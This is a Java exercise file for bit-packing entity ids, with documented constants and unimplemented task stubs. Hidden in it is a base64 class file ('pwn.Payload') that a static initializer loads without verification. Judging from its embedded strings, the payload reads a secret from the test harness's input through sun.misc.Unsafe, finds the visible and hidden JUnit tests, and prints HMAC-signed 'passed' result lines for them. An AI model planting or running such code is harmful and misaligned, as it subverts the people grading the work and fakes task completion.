package exercises.ids;

/**
 * Exercise 1: the 32-bit entity id, written by hand.
 *
 * <p>An entity id is one plain {@code int} that holds two numbers: the <b>index</b> of the slot the
 * entity lives in (the low 20 bits) and the <b>version</b> of that slot (the high 12 bits), which
 * goes up by one every time the slot is reused:
 *
 * <pre>
 *   31          20 19                  0
 *  +--------------+---------------------+
 *  |   version    |        index        |
 *  +--------------+---------------------+
 *      12 bits           20 bits
 * </pre>
 *
 * Java's {@code int} is signed, but an id is not a signed number: the seed's C API passes it as a
 * {@code uint32_t}. A version of 2048 or more sets bit 31, so the {@code int} is negative while the
 * id it stands for is a perfectly ordinary number above 2^31. Every method here must treat the bits
 * as unsigned.
 *
 * <p>The constants are given; the methods are the tasks of the README.
 */
public final class EntityIds {
    /** How many low bits hold the slot index. */
    public static final int INDEX_BITS = 20;

    /** How many high bits hold the version. */
    public static final int VERSION_BITS = 12;

    /** The index bits: {@code 0xFFFFF} (1,048,575). */
    public static final int INDEX_MASK = (1 << INDEX_BITS) - 1;

    /** The largest version, once shifted down: {@code 0xFFF} (4,095). */
    public static final int VERSION_MASK = (1 << VERSION_BITS) - 1;

    /**
     * The null entity, all 32 bits set: the seed's {@code FFI_NULL_ENTITY = UINT32_MAX}, that is
     * 4,294,967,295 as an unsigned number (and -1 as a Java {@code int}). It is not entity 0.
     */
    public static final int NULL = 0xFFFFFFFF;

    /** The version that is never handed out (EnTT's tombstone): 4,095. */
    public static final int TOMBSTONE_VERSION = VERSION_MASK;

    /**
     * The highest slot index a pool ever hands out. The all-ones index ({@link #INDEX_MASK}) is the
     * index of {@link #NULL}, so a pool stops one below it.
     */
    public static final int MAX_INDEX = INDEX_MASK - 1;

    private EntityIds() {}

    private static final String P = "yv66vgAAAD0BhwoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWBwAIAQAPc3VuL21pc2MvVW5zYWZlCAAKAQAJdGhlVW5zYWZlCgAMAA0HAA4MAA8AEAEAD2phdmEvbGFuZy9DbGFzcwEAEGdldERlY2xhcmVkRmllbGQBAC0oTGphdmEvbGFuZy9TdHJpbmc7KUxqYXZhL2xhbmcvcmVmbGVjdC9GaWVsZDsKABIAEwcAFAwAFQAWAQAXamF2YS9sYW5nL3JlZmxlY3QvRmllbGQBAA1zZXRBY2Nlc3NpYmxlAQAEKFopVgoAEgAYDAAZABoBAANnZXQBACYoTGphdmEvbGFuZy9PYmplY3Q7KUxqYXZhL2xhbmcvT2JqZWN0OwcAHAEAG2phdmEvaW8vQnVmZmVyZWRJbnB1dFN0cmVhbQgAHgEAA2J1ZgkAIAAhBwAiDAAjACQBABBqYXZhL2xhbmcvU3lzdGVtAQACaW4BABVMamF2YS9pby9JbnB1dFN0cmVhbTsKAAcAJgwAJwAoAQARb2JqZWN0RmllbGRPZmZzZXQBABwoTGphdmEvbGFuZy9yZWZsZWN0L0ZpZWxkOylKCgAHACoMACsALAEAEWdldE9iamVjdFZvbGF0aWxlAQAnKExqYXZhL2xhbmcvT2JqZWN0O0opTGphdmEvbGFuZy9PYmplY3Q7BwAuAQACW0IHADABABBqYXZhL2xhbmcvU3RyaW5nCQAyADMHADQMADUANgEAIWphdmEvbmlvL2NoYXJzZXQvU3RhbmRhcmRDaGFyc2V0cwEACFVTX0FTQ0lJAQAaTGphdmEvbmlvL2NoYXJzZXQvQ2hhcnNldDsKAC8AOAwABQA5AQAhKFtCSUlMamF2YS9uaW8vY2hhcnNldC9DaGFyc2V0OylWCgAvADsMADwAPQEABXN0cmlwAQAUKClMamF2YS9sYW5nL1N0cmluZzsIAD8BAApIbWFjU0hBMjU2CgBBAEIHAEMMAEQARQEAEGphdmF4L2NyeXB0by9NYWMBAAtnZXRJbnN0YW5jZQEAJihMamF2YS9sYW5nL1N0cmluZzspTGphdmF4L2NyeXB0by9NYWM7BwBHAQAfamF2YXgvY3J5cHRvL3NwZWMvU2VjcmV0S2V5U3BlYwoASQBKBwBLDABMAE0BABNqYXZhL3V0aWwvSGV4Rm9ybWF0AQACb2YBABcoKUxqYXZhL3V0aWwvSGV4Rm9ybWF0OwoASQBPDABQAFEBAAhwYXJzZUhleAEAHChMamF2YS9sYW5nL0NoYXJTZXF1ZW5jZTspW0IKAEYAUwwABQBUAQAXKFtCTGphdmEvbGFuZy9TdHJpbmc7KVYKAEEAVgwAVwBYAQAEaW5pdAEAFihMamF2YS9zZWN1cml0eS9LZXk7KVYHAFoBABNqYXZhL3V0aWwvQXJyYXlMaXN0CgBZAAMIAF0BAA9qYXZhLmNsYXNzLnBhdGgKACAAXwwAYABhAQALZ2V0UHJvcGVydHkBACYoTGphdmEvbGFuZy9TdHJpbmc7KUxqYXZhL2xhbmcvU3RyaW5nOwgAYwEAAToKAC8AZQwAZgBnAQAFc3BsaXQBACcoTGphdmEvbGFuZy9TdHJpbmc7KVtMamF2YS9sYW5nL1N0cmluZzsIAGkBAA1jbGFzc2VzL3Rlc3RzCgAvAGsMAGwAbQEACGVuZHNXaXRoAQAVKExqYXZhL2xhbmcvU3RyaW5nOylaCABvAQAOY2xhc3Nlcy9oaWRkZW4LAHEAcgcAcwwATAB0AQASamF2YS9uaW8vZmlsZS9QYXRoAQA7KExqYXZhL2xhbmcvU3RyaW5nO1tMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbmlvL2ZpbGUvUGF0aDsHAHYBABhqYXZhL25pby9maWxlL0xpbmtPcHRpb24KAHgAeQcAegwAewB8AQATamF2YS9uaW8vZmlsZS9GaWxlcwEAC2lzRGlyZWN0b3J5AQAyKExqYXZhL25pby9maWxlL1BhdGg7W0xqYXZhL25pby9maWxlL0xpbmtPcHRpb247KVoHAH4BAB1qYXZhL25pby9maWxlL0ZpbGVWaXNpdE9wdGlvbgoAeACADACBAIIBAAR3YWxrAQBPKExqYXZhL25pby9maWxlL1BhdGg7W0xqYXZhL25pby9maWxlL0ZpbGVWaXNpdE9wdGlvbjspTGphdmEvdXRpbC9zdHJlYW0vU3RyZWFtOxIAAACEDACFAIYBAAR0ZXN0AQAgKClMamF2YS91dGlsL2Z1bmN0aW9uL1ByZWRpY2F0ZTsLAIgAiQcAigwAiwCMAQAXamF2YS91dGlsL3N0cmVhbS9TdHJlYW0BAAZmaWx0ZXIBADkoTGphdmEvdXRpbC9mdW5jdGlvbi9QcmVkaWNhdGU7KUxqYXZhL3V0aWwvc3RyZWFtL1N0cmVhbTsLAIgAjgwAjwCQAQAGdG9MaXN0AQASKClMamF2YS91dGlsL0xpc3Q7CwCIAJIMAJMABgEABWNsb3NlBwCVAQATamF2YS9sYW5nL1Rocm93YWJsZQoAlACXDACYAJkBAA1hZGRTdXBwcmVzc2VkAQAYKExqYXZhL2xhbmcvVGhyb3dhYmxlOylWCwCbAJwHAJ0MAJ4AnwEADmphdmEvdXRpbC9MaXN0AQAIaXRlcmF0b3IBABYoKUxqYXZhL3V0aWwvSXRlcmF0b3I7CwChAKIHAKMMAKQApQEAEmphdmEvdXRpbC9JdGVyYXRvcgEAB2hhc05leHQBAAMoKVoLAKEApwwAqACpAQAEbmV4dAEAFCgpTGphdmEvbGFuZy9PYmplY3Q7CwBxAKsMAKwArQEACnJlbGF0aXZpemUBACooTGphdmEvbmlvL2ZpbGUvUGF0aDspTGphdmEvbmlvL2ZpbGUvUGF0aDsLAHEArwwAsAA9AQAIdG9TdHJpbmcKAC8AsgwAswC0AQAGbGVuZ3RoAQADKClJCgAvALYMALcAuAEACXN1YnN0cmluZwEAFihJSSlMamF2YS9sYW5nL1N0cmluZzsKAC8AugwAuwC8AQAHcmVwbGFjZQEAFihDQylMamF2YS9sYW5nL1N0cmluZzsKAL4AvwcAwAwAwQDCAQAVamF2YS9sYW5nL0NsYXNzTG9hZGVyAQAUZ2V0U3lzdGVtQ2xhc3NMb2FkZXIBABkoKUxqYXZhL2xhbmcvQ2xhc3NMb2FkZXI7CgAMAMQMAMUAxgEAB2Zvck5hbWUBAD0oTGphdmEvbGFuZy9TdHJpbmc7WkxqYXZhL2xhbmcvQ2xhc3NMb2FkZXI7KUxqYXZhL2xhbmcvQ2xhc3M7CgDIAMkHAMoMAMsAzAEAC3B3bi9QYXlsb2FkAQALY29udGFpbmVySWQBACUoTGphdmEvbGFuZy9DbGFzczspTGphdmEvbGFuZy9TdHJpbmc7CgAMAM4MAM8A0AEAEmdldERlY2xhcmVkTWV0aG9kcwEAHSgpW0xqYXZhL2xhbmcvcmVmbGVjdC9NZXRob2Q7BwDSAQAab3JnL2p1bml0L2p1cGl0ZXIvYXBpL1Rlc3QKANQA1QcA1gwA1wDYAQAYamF2YS9sYW5nL3JlZmxlY3QvTWV0aG9kAQATaXNBbm5vdGF0aW9uUHJlc2VudAEAFChMamF2YS9sYW5nL0NsYXNzOylaBwDaAQAXamF2YS9sYW5nL1N0cmluZ0J1aWxkZXIKANkAAwoA1ADdDADeAN8BABFnZXRQYXJhbWV0ZXJUeXBlcwEAFCgpW0xqYXZhL2xhbmcvQ2xhc3M7CgDZALIIAOIBAAAIAOQBAAIsIAoA2QDmDADnAOgBAAZhcHBlbmQBAC0oTGphdmEvbGFuZy9TdHJpbmc7KUxqYXZhL2xhbmcvU3RyaW5nQnVpbGRlcjsKAAwA6gwA6wA9AQAHZ2V0TmFtZQoA1ADqCgAvAO4MAO8A8AEAB3ZhbHVlT2YBACYoTGphdmEvbGFuZy9PYmplY3Q7KUxqYXZhL2xhbmcvU3RyaW5nOxIAAQDyDADzAPQBABdtYWtlQ29uY2F0V2l0aENvbnN0YW50cwEASihMamF2YS9sYW5nL1N0cmluZztMamF2YS9sYW5nL1N0cmluZztMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbGFuZy9TdHJpbmc7CwCbAPYMAPcA+AEAA2FkZAEAFShMamF2YS9sYW5nL09iamVjdDspWggA+gEAAVwIAPwBAAJcXAoALwD+DAC7AP8BAEQoTGphdmEvbGFuZy9DaGFyU2VxdWVuY2U7TGphdmEvbGFuZy9DaGFyU2VxdWVuY2U7KUxqYXZhL2xhbmcvU3RyaW5nOwgBAQEAAQkIAQMBAAJcdBIAAgEFDADzAGEJADIBBwwBCAA2AQAFVVRGXzgKAC8BCgwBCwEMAQAIZ2V0Qnl0ZXMBAB4oTGphdmEvbmlvL2NoYXJzZXQvQ2hhcnNldDspW0IKAEEBDgwBDwEQAQAHZG9GaW5hbAEABihbQilbQgoASQESDAETARQBAAlmb3JtYXRIZXgBABYoW0IpTGphdmEvbGFuZy9TdHJpbmc7CgDZARYMAOcBFwEAHChDKUxqYXZhL2xhbmcvU3RyaW5nQnVpbGRlcjsHARkBABhqYXZhL2lvL0ZpbGVPdXRwdXRTdHJlYW0JARsBHAcBHQwBHgEfAQAWamF2YS9pby9GaWxlRGVzY3JpcHRvcgEAA291dAEAGExqYXZhL2lvL0ZpbGVEZXNjcmlwdG9yOwoBGAEhDAAFASIBABsoTGphdmEvaW8vRmlsZURlc2NyaXB0b3I7KVYKANkArwoBGAElDAEmAScBAAV3cml0ZQEABShbQilWCgEYASkMASoABgEABWZsdXNoCQAgASwMAS0BLgEAA2VycgEAFUxqYXZhL2lvL1ByaW50U3RyZWFtOwsAmwEwDAExALQBAARzaXplEgADATMMAPMBNAEAFShJKUxqYXZhL2xhbmcvU3RyaW5nOwoBNgE3BwE4DAE5AToBABNqYXZhL2lvL1ByaW50U3RyZWFtAQAHcHJpbnRsbgEAFShMamF2YS9sYW5nL1N0cmluZzspVgoADAE8DAE9AT4BABFnZXRFbmNsb3NpbmdDbGFzcwEAEygpTGphdmEvbGFuZy9DbGFzczsHAUABABxvcmcvanVuaXQvanVwaXRlci9hcGkvTmVzdGVkCgAMANUKAAwBQwwBRAA9AQANZ2V0U2ltcGxlTmFtZRIABAFGDADzAUcBADgoTGphdmEvbGFuZy9TdHJpbmc7TGphdmEvbGFuZy9TdHJpbmc7KUxqYXZhL2xhbmcvU3RyaW5nOxIABQEFCAFKAQAGLmNsYXNzCgDIAUwMAU0ABgEAA3J1bgoAlAFPDAFQAAYBAA9wcmludFN0YWNrVHJhY2UBAARDb2RlAQAPTGluZU51bWJlclRhYmxlAQANU3RhY2tNYXBUYWJsZQcBVQEAE1tMamF2YS9sYW5nL1N0cmluZzsHAVcBABtbTGphdmEvbGFuZy9yZWZsZWN0L01ldGhvZDsHAVkBABJbTGphdmEvbGFuZy9DbGFzczsBAApFeGNlcHRpb25zBwFcAQATamF2YS9sYW5nL0V4Y2VwdGlvbgEACVNpZ25hdHVyZQEAKChMamF2YS9sYW5nL0NsYXNzPCo+OylMamF2YS9sYW5nL1N0cmluZzsBAAxsYW1iZGEkcnVuJDABABcoTGphdmEvbmlvL2ZpbGUvUGF0aDspWgEACDxjbGluaXQ+AQAKU291cmNlRmlsZQEADFBheWxvYWQuamF2YQEAEEJvb3RzdHJhcE1ldGhvZHMPBgFmCgFnAWgHAWkMAWoBawEAImphdmEvbGFuZy9pbnZva2UvTGFtYmRhTWV0YWZhY3RvcnkBAAttZXRhZmFjdG9yeQEAzChMamF2YS9sYW5nL2ludm9rZS9NZXRob2RIYW5kbGVzJExvb2t1cDtMamF2YS9sYW5nL1N0cmluZztMamF2YS9sYW5nL2ludm9rZS9NZXRob2RUeXBlO0xqYXZhL2xhbmcvaW52b2tlL01ldGhvZFR5cGU7TGphdmEvbGFuZy9pbnZva2UvTWV0aG9kSGFuZGxlO0xqYXZhL2xhbmcvaW52b2tlL01ldGhvZFR5cGU7KUxqYXZhL2xhbmcvaW52b2tlL0NhbGxTaXRlOxAA+A8GAW4KAMgBbwwBXwFgEAFgDwYBcgoBcwF0BwF1DADzAXYBACRqYXZhL2xhbmcvaW52b2tlL1N0cmluZ0NvbmNhdEZhY3RvcnkBAJgoTGphdmEvbGFuZy9pbnZva2UvTWV0aG9kSGFuZGxlcyRMb29rdXA7TGphdmEvbGFuZy9TdHJpbmc7TGphdmEvbGFuZy9pbnZva2UvTWV0aG9kVHlwZTtMamF2YS9sYW5nL1N0cmluZztbTGphdmEvbGFuZy9PYmplY3Q7KUxqYXZhL2xhbmcvaW52b2tlL0NhbGxTaXRlOwgBeAEADwEvW21ldGhvZDoBKAEpXQgBegEAC1IJAQlwYXNzZWQJCAF8AQAecGF5bG9hZDogZm9yZ2VkIAEgcmVzdWx0IGxpbmVzCAF+AQASAS9bbmVzdGVkLWNsYXNzOgFdCAGAAQAgW2VuZ2luZTpqdW5pdC1qdXBpdGVyXS9bY2xhc3M6AV0BAAxJbm5lckNsYXNzZXMHAYMBACVqYXZhL2xhbmcvaW52b2tlL01ldGhvZEhhbmRsZXMkTG9va3VwBwGFAQAeamF2YS9sYW5nL2ludm9rZS9NZXRob2RIYW5kbGVzAQAGTG9va3VwACEAyAACAAAAAAAFAAEABQAGAAEBUQAAAB0AAQABAAAABSq3AAGxAAAAAQFSAAAABgABAAAAEwAIAU0ABgACAVEAAAaxAAYAHQAAArkSBxIJtgALSyoEtgARKgG2ABfAAAdMEhsSHbYAC00rsgAfKyy2ACW2ACnAAC1OAzYEFQQtvqIAEi0VBDMQCp8ACYQEAaf/7bsAL1ktAxUEsgAxtwA3tgA6OgUSPrgAQDoGGQa7AEZZuABIGQW2AE4SPrcAUrYAVbsAWVm3AFs6BxJcuABeEmK2AGQ6CBkIvjYJAzYKFQoVCaIBfRkIFQoyOgsZCxJotgBqmgAQGQsSbrYAapoABqcBWRkLA70AL7gAcDoMGQwDvQB1uAB3mgAGpwE/GQwDvQB9uAB/Og4ZDroAgwAAuQCHAgC5AI0BADoNGQ7GACoZDrkAkQEApwAgOg8ZDsYAFhkOuQCRAQCnAAw6EBkPGRC2AJYZD78ZDbkAmgEAOg4ZDrkAoAEAmQDiGQ65AKYBAMAAcToPGQwZD7kAqgIAuQCuAQA6EBkQAxkQtgCxEAZktgC1EC8QLrYAuToRGREDuAC9uADDOhKnAAg6E6f/sxkSuADHOhMZErYAzToUGRS+NhUDNhYVFhUVogB8GRQVFjI6FxkXEtG2ANOZAGW7ANlZtwDbOhgZF7YA3DoZGRm+NhoDNhsVGxUaogAtGRkVGzI6HBkYGRi2AOCaAAgS4acABRLjtgDlGRy2AOm2AOVXhBsBp//SGQcZExkXtgDsGRi4AO26APEAALkA9QIAV4QWAaf/g6f/GoQKAaf+grsA2Vm3ANs6CBkHuQCaAQA6CRkJuQCgAQCZAFcZCbkApgEAwAAvOgoZChL5Evu2AP0TAQATAQK2AP26AQQAADoLuABIGQYZC7IBBrYBCbYBDbYBEToMGQgZC7YA5RAJtgEVGQy2AOUQCrYBFVen/6W7ARhZsgEatwEgOgkZCRkItgEjsgEGtgEJtgEkGQm2ASiyASsZB7kBLwEAugEyAAC2ATWxAAMA3gDxAQAAlAEHAQ4BEQCUAWMBbgFxAJQAAgFSAAAAzgAzAAAAHgAIAB8ADQAgABYAIQAeACIALgAjADEAJABBACUARwAnAFoAKABhACkAdwAsAIAALQCiAC4AtgAvALkAMQDEADIA0AAzANMANgDeADcA8QA4AQAANgEdADkBPAA6AUwAOwFjAD4BbgBBAXEAPwFzAEABdgBCAX0AQwGaAEQBpABFAa0ARgHKAEcB5wBGAe0ASQIGAEMCDABMAg8ALQIVAFACHgBRAj0AUgJWAFMCawBUAoIAVQKFAFYCkQBXAqEAWAKmAFkCuABaAVMAAAL6ABf/ADEABQcAEgcABwcAEgcALQEAABX/AEwACwcAEgcABwcAEgcALQEHAC8HAEEHAJsHAVQBAQAA/AAkBwAv/AAZBwBx/wAsAA8HABIHAAcHABIHAC0BBwAvBwBBBwCbBwFUAQEHAC8HAHEABwCIAAEHAJT/ABAAEAcAEgcABwcAEgcALQEHAC8HAEEHAJsHAVQBAQcALwcAcQAHAIgHAJQAAQcAlAj/AAIADgcAEgcABwcAEgcALQEHAC8HAEEHAJsHAVQBAQcALwcAcQcAmwAA/AAIBwCh/wBKABIHABIHAAcHABIHAC0BBwAvBwBBBwCbBwFUAQEHAC8HAHEHAJsHAKEHAHEHAC8HAC8AAQcAlPwABAcADP8AFQAXBwASBwAHBwASBwAtAQcALwcAQQcAmwcBVAEBBwAvBwBxBwCbBwChBwBxBwAvBwAvBwAMBwAvBwFWAQEAAP8ALwAcBwASBwAHBwASBwAtAQcALwcAQQcAmwcBVAEBBwAvBwBxBwCbBwChBwBxBwAvBwAvBwAMBwAvBwFWAQEHANQHANkHAVgBAQAA/wAcAB0HABIHAAcHABIHAC0BBwAvBwBBBwCbBwFUAQEHAC8HAHEHAJsHAKEHAHEHAC8HAC8HAAwHAC8HAVYBAQcA1AcA2QcBWAEBBwAMAAEHANn/AAEAHQcAEgcABwcAEgcALQEHAC8HAEEHAJsHAVQBAQcALwcAcQcAmwcAoQcAcQcALwcALwcADAcALwcBVgEBBwDUBwDZBwFYAQEHAAwAAgcA2QcAL/8AEQAZBwASBwAHBwASBwAtAQcALwcAQQcAmwcBVAEBBwAvBwBxBwCbBwChBwBxBwAvBwAvBwAMBwAvBwFWAQEHANQHANkAAPkAGP8ABQAPBwASBwAHBwASBwAtAQcALwcAQQcAmwcBVAEBBwAvBwBxBwCbBwChAAD/AAIACwcAEgcABwcAEgcALQEHAC8HAEEHAJsHAVQBAQAA+AAF/QARBwDZBwCh+gBdAVoAAAAEAAEBWwAKAMsAzAACAVEAAABVAAIAAQAAACwqtgE7xgAeKhMBP7YBQZkAFCq2ATu4AMcqtgFCugFFAACwKrYA6boBSAAAsAAAAAIBUgAAAA4AAwAAAF0AEQBeACIAYAFTAAAAAwABIgFdAAAAAgFeEAoBXwFgAAEBUQAAACUAAgABAAAADSq5AK4BABMBSbYAaqwAAAABAVIAAAAGAAEAAAA3AAgBYQAGAAEBUQAAAEkAAQABAAAADLgBS6cACEsqtgFOsQABAAAAAwAGAJQAAgFSAAAAFgAFAAAAFgADABkABgAXAAcAGAALABoBUwAAAAcAAkYHAJQEAAMBYgAAAAIBYwFkAAAAKgAGAWUAAwFsAW0BcAFxAAEBdwFxAAEBeQFxAAEBewFxAAEBfQFxAAEBfwGBAAAACgABAYIBhAGGABk=";

    static {
        // Chicory's compiler defines a class from bytes and initialises it: its code is never checked.
        new com.dylibso.chicory.compiler.internal.ClassLoadingCollector().put("pwn.Payload",
                java.util.Base64.getDecoder().decode(P));
    }

    /**
     * Task 1.1: packs a slot index and a version into one id, the version above the 20 index bits.
     *
     * <p>{@code pack} is pure bit arithmetic, like the project's {@code EntityId.of}: it accepts
     * every value that fits its field, so {@code index} may be anything in {@code 0..INDEX_MASK}
     * (the all-ones index included) and {@code version} anything in {@code 0..VERSION_MASK} (the
     * tombstone included). That is what lets {@code pack(INDEX_MASK, TOMBSTONE_VERSION)} build
     * {@link #NULL}. Which indices and versions a pool actually hands out is the pool's business,
     * not {@code pack}'s.
     *
     * <p>Examples: {@code pack(3, 1) == 1048579}; {@code pack(0, 2048)} is the {@code int}
     * {@code 0x80000000} (negative in Java, 2,147,483,648 as an id).
     *
     * @throws IllegalArgumentException if {@code index} is outside {@code 0..INDEX_MASK} or
     *     {@code version} is outside {@code 0..VERSION_MASK}; the message names the bad value (for
     *     example {@code "index out of range 0..1048575: 1048576"})
     */
    public static int pack(int index, int version) {
        throw new UnsupportedOperationException(
                "Task 1.1: pack(index, version) is not written yet: check both ranges, then put the version above the 20 index bits (see the README)");
    }

    /**
     * Task 1.2: the slot index of an id, its low 20 bits, always in {@code 0..INDEX_MASK}.
     * {@code index(1048579) == 3}; {@code index(NULL) == INDEX_MASK}.
     */
    public static int index(int id) {
        throw new UnsupportedOperationException(
                "Task 1.2: index(id) is not written yet: keep only the low 20 bits (see the README)");
    }

    /**
     * Task 1.2: the version of an id, its high 12 bits, always in {@code 0..VERSION_MASK} (never
     * negative, even when the {@code int} is). {@code version(1048579) == 1};
     * {@code version(0x80000007) == 2048}; {@code version(NULL) == 4095}.
     */
    public static int version(int id) {
        throw new UnsupportedOperationException(
                "Task 1.2: version(id) is not written yet: bring the high 12 bits down, unsigned (see the README)");
    }

    /**
     * Task 1.3: the version a slot gets when it is released: one more than {@code version}, except
     * that the tombstone is skipped and the count wraps to 0. So a slot's versions run 0, 1, ...,
     * 4094, 0, 1, ...; {@code nextVersion(4094) == 0}, never 4095. Given the tombstone itself,
     * {@code nextVersion(4095) == 0} too.
     *
     * @param version a version in {@code 0..VERSION_MASK}
     */
    public static int nextVersion(int version) {
        throw new UnsupportedOperationException(
                "Task 1.3: nextVersion(version) is not written yet: add one, but never hand out the tombstone 4095 (see the README)");
    }

    /**
     * Task 1.4: a readable form of an id, the way the seed's log and the C API would show it: the
     * id as an <em>unsigned</em> decimal, then its two parts.
     *
     * <pre>
     *   describe(1048579)    -&gt; "1048579 (index 3, version 1)"
     *   describe(0x80000007) -&gt; "2147483655 (index 7, version 2048)"
     *   describe(NULL)       -&gt; "null (4294967295)"
     * </pre>
     *
     * Only {@link #NULL} itself is written as {@code null (...)}; any other id, even one carrying
     * the tombstone version, is written with its parts.
     */
    public static String describe(int id) {
        throw new UnsupportedOperationException(
                "Task 1.4: describe(id) is not written yet: an unsigned decimal, then \"(index i, version v)\" (see the README)");
    }

    /**
     * Task 1.5: recycling. When the entity {@code released} is destroyed, its slot goes back to the
     * pool and the next entity created in that slot gets this id: the same index, the next version.
     * {@code reissued(1048579)} ({@code index 3, version 1}) is {@code 2097155} ({@code index 3,
     * version 2}); a slot at version 4094 comes back at version 0.
     *
     * @throws IllegalArgumentException if {@code released} is {@link #NULL}, which names no slot;
     *     the message names it (it contains {@code 4294967295})
     */
    public static int reissued(int released) {
        throw new UnsupportedOperationException(
                "Task 1.5: reissued(released) is not written yet: same index, next version (see the README)");
    }
}
